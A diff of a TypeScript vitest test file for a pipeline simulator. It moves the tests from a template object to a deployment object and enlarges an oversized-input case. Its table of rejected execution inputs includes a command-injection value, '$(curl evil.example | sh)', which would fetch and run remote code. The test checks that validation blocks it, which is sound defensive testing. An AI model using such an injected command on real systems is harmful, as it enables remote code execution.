@@ -3,12 +3,11 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { loadPipelineConfig } from '../../lib/config/load';
 import { buildReport } from '../../simulator/report';
 import { runSimulation } from '../../simulator/run';
-import { synthTemplate } from '../../simulator/synth';
-import type { CfnTemplate } from '../../simulator/template';
+import { synthDeployment, type SimDeployment } from '../../simulator/synth';
 
-let template: CfnTemplate;
+let deployment: SimDeployment;
 beforeAll(() => {
-  template = synthTemplate(loadPipelineConfig());
+  deployment = synthDeployment(loadPipelineConfig());
 });
 
 describe('execution input, as a caller sends it', () => {
@@ -20,13 +19,13 @@ describe('execution input, as a caller sends it', () => {
     [{ mode: 'full', command: '$(curl evil.example | sh)' }, 'command'],
     [{ mode: 'full', runDate: 20260530 }, 'runDate'],
     [['full'], 'execution input'],
-    [{ mode: 'full', runDate: '2026-05-30', pad: 'x'.repeat(5000) }, 'execution input'],
+    [{ mode: 'full', runDate: '2026-05-30', pad: 'x'.repeat(9000) }, 'execution input'],
   ])('%j fails ValidateInput with InvalidExecutionInput naming %s, and launches nothing', async (input, field) => {
     // Prepare
     const scenario = { name: 'bad input', input };
 
     // Act
-    const sim = await runSimulation(scenario, { template });
+    const sim = await runSimulation(scenario, { deployment });
     const report = buildReport(sim);
 
     // Assess
